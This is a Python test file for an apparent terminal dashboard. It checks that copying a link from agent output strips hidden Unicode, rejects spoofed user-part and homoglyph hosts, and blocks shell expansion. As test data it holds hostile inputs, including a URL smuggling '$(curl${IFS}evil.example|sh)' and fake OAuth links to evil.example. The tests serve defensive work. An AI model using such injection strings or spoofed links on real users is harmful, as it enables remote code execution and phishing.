"""What `u` copies from a screen an agent (or a hostile repository's text it prints) controls."""

from __future__ import annotations

import sys
import time
from pathlib import Path

import pyperclip
import pytest
from textual.widgets._toast import Toast

from daintree_tui.core.project import Project
from daintree_tui.sessions.links import copyable, links_in
from daintree_tui.tui.app import make_app
from daintree_tui.tui.widgets.terminal import TerminalView
from tests.conftest import CLI, trusted_config, wait_for
from tests.helpers.dashboard import main_screen, until


def test_a_link_copies_no_invisible_or_control_characters() -> None:
    """The pane keeps U+202E (right-to-left override) and U+200B (zero width space) as characters: the copied
    link carried them, which a toast shows escaped or not at all and a browser or shell reads as something else."""
    for hidden in ("\u202e", "\u200b", "\u2066", "\ufeff", "\x7f", "\x9b"):
        url = copyable(links_in(f"Visit https://claude.ai/oauth{hidden}evil.example/x now", 80)[-1])
        assert url is not None and url.isascii() and url.isprintable(), repr(url)
        assert hidden not in url


def test_a_link_with_a_user_part_is_not_copied() -> None:
    """`https://claude.ai%2Foauth%2Fauthorize%3Fcode=true&...@evil.example/` is evil.example's link: the toast
    showed its first 48 characters, all of them 'claude.ai'."""
    spoof = "https://claude.ai%2Foauth%2Fauthorize%3Fcode%3Dtrue%26client_id%3D9d1c250a@evil.example/cb"
    assert links_in(spoof, 200) == [spoof]
    assert copyable(spoof) is None
    assert copyable("https://claude.ai/oauth/authorize?code=true&redirect=a@b") is not None  # '@' in the query


def test_a_link_copies_no_shell_expansion() -> None:
    """Pasted between double quotes (`xdg-open "..."`), `$(...)` runs: a URL may hold `$`, a copied one holds
    it percent-encoded."""
    url = copyable(links_in("https://a.example/$(curl${IFS}evil.example|sh)", 80)[-1])
    assert url is not None and "$" not in url and "|" not in url


def test_an_enormous_link_is_not_copied_and_finding_it_is_quick() -> None:
    """500 rows of scrollback, every one a URL to the right edge and every row but the first starting with a
    letter: each row's URL was joined with every row after it (quadratic), in the dashboard's event loop."""
    width = 1000
    rows = ["https://a.example/" + "b" * (width - 18)] + [("x" * 10 + "https://c.example/").ljust(width, "d")
                                                          for _ in range(499)]
    start = time.monotonic()
    links = links_in("\n".join(rows), width)
    assert time.monotonic() - start < 0.5
    assert all(copyable(link) is None for link in links if len(link) > 8192)
    assert copyable("https://a.example/" + "b" * 9000) is None


def test_only_http_links_with_a_plain_host_are_copied() -> None:
    assert links_in("javascript:alert(1) file:///etc/passwd data:text/html,x", 80) == []
    assert copyable("https://xn--clade-8ua.ai/x") == "https://xn--clade-8ua.ai/x"
    assert copyable("https://claud\u0435.ai/x") is None  # a Cyrillic e: not a host shown as it reads
    assert copyable("https:///x") is None


pytestmark_dashboard = pytest.mark.usefixtures("tmux_socket")


@pytestmark_dashboard
async def test_u_says_which_host_it_copied_a_link_to(repo: Path, cli: CLI) -> None:
    """The toast showed a link's first 48 characters: a host that long (`claude.ai.oauth.authorize.code...
    .evil.example`) read as claude.ai's. It names the host, whole."""
    host = "claude.ai.oauth.authorize.code.true.client.id.9d1c250a.e61b.evil.example"
    link = f"https://{host}/cb?x=1"
    code = f"import time; print('Visit:'); print('{link}'); print('Paste code >', flush=True); time.sleep(120)"
    trusted_config(repo, f"[agents.signin]\ncommand = '''{sys.executable} -c \"{code}\"'''\n"
                         "[notifications]\nbell = false\n")
    cli.ok("worktree", "create", "login", "--agent", "signin")
    wait_for(lambda: "Paste code" in cli.ok("session", "capture", "login").stdout)
    app = make_app(Project.discover(repo))
    async with app.run_test(size=(120, 30), notifications=True) as pilot:
        screen = main_screen(app)
        terminal = screen.query_one(TerminalView)
        await until(pilot, lambda: terminal.attached and "Paste code" in terminal.screen_text())
        await pilot.press("u")
        await until(pilot, lambda: any("evil.example" in "".join(str(t.render()).split("\n"))
                                       for t in screen.query(Toast)))
        copied = pyperclip.paste() if "Copied" in str(screen.query(Toast).last().render()) else app.clipboard
        assert copied == link
